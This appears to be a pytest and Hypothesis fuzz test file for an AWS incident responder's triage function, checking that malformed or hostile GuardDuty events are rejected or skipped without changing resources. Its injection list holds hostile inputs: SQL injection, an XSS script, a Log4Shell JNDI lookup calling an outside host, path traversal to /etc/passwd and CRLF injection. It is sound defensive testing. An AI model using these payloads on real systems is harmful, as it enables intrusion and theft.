"""Fuzzing the triage function, as deployed: malformed, hostile and unexpected events.

Every case must end one of two ways, with no AWS call that changes a resource:
- a `MalformedFinding` error that says what is wrong, and no incident;
- a parsed finding that triage skips (its incident, if any, is SKIPPED), or a root-credential finding,
  which only ever notifies.
Anything else (another exception, a NEW incident for a resource that does not exist, a mutating call)
fails the test.
"""

from __future__ import annotations

import json
import os
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from responder.models.incident import Status
from responder_cli import samples
from responder_cli.sandbox.lambda_runtime import FunctionSpec
from tests.support.faults import FaultInjector
from tests.support.schema_strategy import from_schema

SCHEMA = json.loads(
    (Path(__file__).parents[1] / "support" / "schemas" / "guardduty-finding-event.schema.json").read_text()
)
INJECTIONS = [
    "'; DROP TABLE incidents; --",
    '<script>alert("x")</script>',
    "${jndi:ldap://198.51.100.1/a}",
    "../../../../etc/passwd",
    "i-0abc\r\nX-Injected: 1",
    "{{7*7}}",
    "%00%0a",
    "\u202eevil",
    "a" * 5000,
    "arn:aws:iam::123456789012:role/containment-responder-*",
]
CASES: Counter[str] = Counter()
EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", 250))  # per fuzzer; more for a nightly run
# CI runs the same cases every time (derandomized), so a landing never depends on luck; FUZZ_EXAMPLES and
# FUZZ_RANDOM=1 explore further.
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=list(HealthCheck),
    derandomize=not os.environ.get("FUZZ_RANDOM"),
)


def _triage(responder) -> FunctionSpec:
    name = next(
        p for key, (t, p) in responder.stack.resources.items() if t == "AWS::Lambda::Function" and "Triage" in key
    )
    cfg = responder.lam.get_function_configuration(FunctionName=name)
    return FunctionSpec(
        name=name, arn=cfg["FunctionArn"], handler=cfg["Handler"], environment=cfg["Environment"]["Variables"]
    )


@pytest.fixture(scope="module", autouse=True)
def _case_counts():
    """What the fuzzers tried, by category and outcome, for README's Reliability section."""
    yield
    if CASES:
        out = Path(__file__).parents[2] / ".build" / "fuzz-cases.json"
        out.parent.mkdir(exist_ok=True)
        out.write_text(json.dumps({"total": sum(CASES.values()), **dict(sorted(CASES.items()))}, indent=2))


@pytest.fixture
def fuzz(responder, monkeypatch):
    spec = _triage(responder)
    recorder = FaultInjector().install(monkeypatch)

    def run(raw: Any, category: str) -> str:
        before = {i.incident_id for i in responder.incidents()}
        recorder.calls.clear()
        result, errored = responder.invoker.invoke(
            spec, {"event": raw, "execution_arn": "arn:aws:states:us-east-1:123456789012:execution:fuzz:1"}
        )
        payload = json.loads(result)
        assert recorder.resource_mutations() == [], f"{category}: triage changed a resource"
        new = [i for i in responder.incidents() if i.incident_id not in before]
        if errored:
            assert payload["errorType"] == "MalformedFinding", payload
            message = payload["errorMessage"]
            assert message.startswith(("malformed GuardDuty finding event:", "malformed Security Hub",
                                       "the event is", "the event carries")), message  # fmt: skip
            assert len(message) < 4000
            assert new == [], f"{category}: a rejected event opened an incident"
            outcome = "rejected"
        else:
            outcome = payload["outcome"]
            assert outcome in {"skipped", "protected", "unhandled", "new", "absorbed"}, payload
            if outcome in ("protected", "unhandled"):
                outcome = "skipped"  # skipped and emailed: a protected resource, or a high-severity threat
            for incident in new:
                assert incident.status is Status.SKIPPED or incident.resource.type.value == "iam_root", (
                    f"{category}: {incident.resource.type.value} {incident.resource.id!r} opened as {incident.status}"
                )
        CASES[f"{category}:{outcome}"] += 1
        event(outcome)
        return outcome

    return run


def _seed(draw) -> dict[str, Any]:
    finding_type = draw(st.sampled_from(samples.sample_types()))
    return samples.sample(finding_type, resource=None)


def _paths(node: Any, prefix: tuple = ()) -> list[tuple]:
    out = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            out += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            out += _paths(value, (*prefix, index))
    return out


def _set(doc: Any, path: tuple, value: Any, delete: bool = False) -> None:
    for key in path[:-1]:
        doc = doc[key]
    if delete:
        del doc[path[-1]]
    else:
        doc[path[-1]] = value


wrong_values = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.text(max_size=30),
    st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)  # fmt: skip


@st.composite
def mutated_events(draw) -> tuple[str, Any]:
    doc = _seed(draw)
    kind = draw(st.sampled_from(["missing", "wrong_type", "unknown_finding_type", "unknown_resource_type",
                                 "injection", "truncated", "oversized", "not_an_object"]))  # fmt: skip
    paths = _paths(doc)
    if kind == "missing":
        _set(doc, draw(st.sampled_from(paths)), None, delete=True)
    elif kind == "wrong_type":
        _set(doc, draw(st.sampled_from(paths)), draw(wrong_values))
    elif kind == "unknown_finding_type":
        doc["detail"]["type"] = draw(
            st.one_of(st.text(max_size=60), st.from_regex(r"[A-Z][a-z]+:[A-Z0-9]+/[A-Za-z]+", fullmatch=True))
        )
    elif kind == "unknown_resource_type":
        doc["detail"]["resource"]["resourceType"] = draw(st.text(max_size=30))
    elif kind == "injection":
        targets = [
            p
            for p in paths
            if p[-1]
            in {"instanceId", "userName", "name", "id", "accessKeyId", "title", "key", "value", "region", "accountId"}
        ]
        _set(doc, draw(st.sampled_from(targets)), draw(st.sampled_from(INJECTIONS)))
    elif kind == "truncated":
        depth = draw(st.integers(0, 3))
        for path in sorted((p for p in paths if len(p) > depth), key=len, reverse=True):
            if len(path) == depth + 1:
                _set(doc, path, {} if isinstance(_get(doc, path), dict) else None)
    elif kind == "oversized":
        doc["detail"]["description"] = "x" * (256 * 1024 + draw(st.integers(1, 4096)))
    else:
        text = json.dumps(doc)
        return kind, draw(st.sampled_from([text[: draw(st.integers(0, len(text) - 1))], None, [doc], 42]))
    return kind, doc


def _get(doc: Any, path: tuple) -> Any:
    for key in path:
        doc = doc[key]
    return doc


@FUZZ
@given(case=mutated_events())
def test_mutated_realistic_findings_are_rejected_or_skipped(fuzz, case):
    kind, raw = case
    outcome = fuzz(raw, kind)
    if kind in {"oversized", "not_an_object"}:
        assert outcome == "rejected"


@FUZZ
@given(raw=from_schema(SCHEMA))
def test_events_generated_from_the_finding_schema_are_rejected_or_skipped(fuzz, raw):
    fuzz(raw, "schema")
